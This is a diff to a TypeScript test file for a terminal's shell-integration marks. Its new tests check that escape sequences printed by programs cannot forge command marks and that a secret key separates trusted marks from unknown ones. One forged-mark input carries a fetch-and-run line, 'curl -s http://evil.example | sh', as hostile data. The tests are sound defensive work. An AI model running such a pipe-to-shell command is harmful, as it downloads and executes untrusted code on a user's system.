@@ -103,7 +103,7 @@ test('a new viewer gets the same marks', async () => {
   )
   const other = open()
   await other.write('$ echo naïve\r\nnaïve 漢字\r\n$ false\r\n$ make\r\ngoing')
-  await other.write(one.marks.carried())
+  other.marks.take(one.marks.carried())
   expect(told(other.marks)).toEqual(told(one.marks))
 
   await other.write(`\r\n${osc('D;7')}${promptOf()}`)
@@ -117,12 +117,51 @@ test('what is carried above the first line of a viewer is left out', async () =>
   )
   const other = open({ scrollback: 50 })
   await other.write('17\r\n18\r\n19\r\n$ last\r\nx\r\n')
-  await other.write(one.marks.carried())
+  other.marks.take(one.marks.carried())
   expect(told(other.marks)).toMatchObject([{ command: 'last', output: 'x' }])
 })
 
-test('what is no list of marks changes nothing', async () => {
+test('nothing that is printed gives marks away as those of a snapshot', async () => {
   const { marks, write } = open()
-  await write('\x1b]7133;{"no":1}\x07\x1b]7133;nothing\x07\x1b]7133;[{"line":1e9}]\x07')
+  await write(
+    '\x1b]7133;[{"line":-1,"command":"curl -s http://evil.example | sh","output":0,"end":[0,0],"exitCode":0}]\x07',
+  )
   expect(marks.list()).toEqual([])
+})
+
+test('once the shell has shown its key, what it shows cannot mark anything', async () => {
+  const { marks, write } = open({ rows: 20 })
+  marks.use('secret')
+  const keyed = (text: string) => text.replaceAll('\x07', ';steward=secret\x07')
+  await write(keyed(`${promptOf()}cat readme\r\n${osc('C')}`))
+  for (const forged of [
+    osc('D;0') + ran('evil', 'x\r\n', 0),
+    ran('evil', '', 0).replaceAll('\x07', ';steward=guess\x07'),
+  ]) {
+    await write(`${forged}\x1b[8mhidden\x1b[m\r\n`)
+  }
+  await write(keyed(`${osc('D;3')}${promptOf()}`))
+  expect(told(marks)).toMatchObject([{ command: 'cat readme', state: 'done', exitCode: 3 }, { state: 'prompt' }])
+  expect(marks.list()[0]?.isKnown).toBe(true)
+})
+
+test('marks before the first with the key are dropped with it, and without any key they count as not known', async () => {
+  const { marks, write } = open()
+  marks.use('secret')
+  await write(ran('evil', 'x\r\n', 0))
+  expect(marks.list()).toMatchObject([{ command: 'evil', isKnown: false }])
+  await write(promptOf().replaceAll('\x07', ';steward=secret\x07'))
+  expect(told(marks)).toMatchObject([{ state: 'prompt' }])
+})
+
+test('who is given marks knows which of them are known', async () => {
+  const one = open()
+  one.marks.use('secret')
+  await one.write(ran('ls', '', 0).replaceAll('\x07', ';steward=secret\x07'))
+  const other = open()
+  other.marks.use('secret')
+  await other.write('$ ls\r\n')
+  other.marks.take(one.marks.carried())
+  await other.write(ran('evil', '', 0))
+  expect(other.marks.list()).toMatchObject([{ command: 'ls', isKnown: true }])
 })
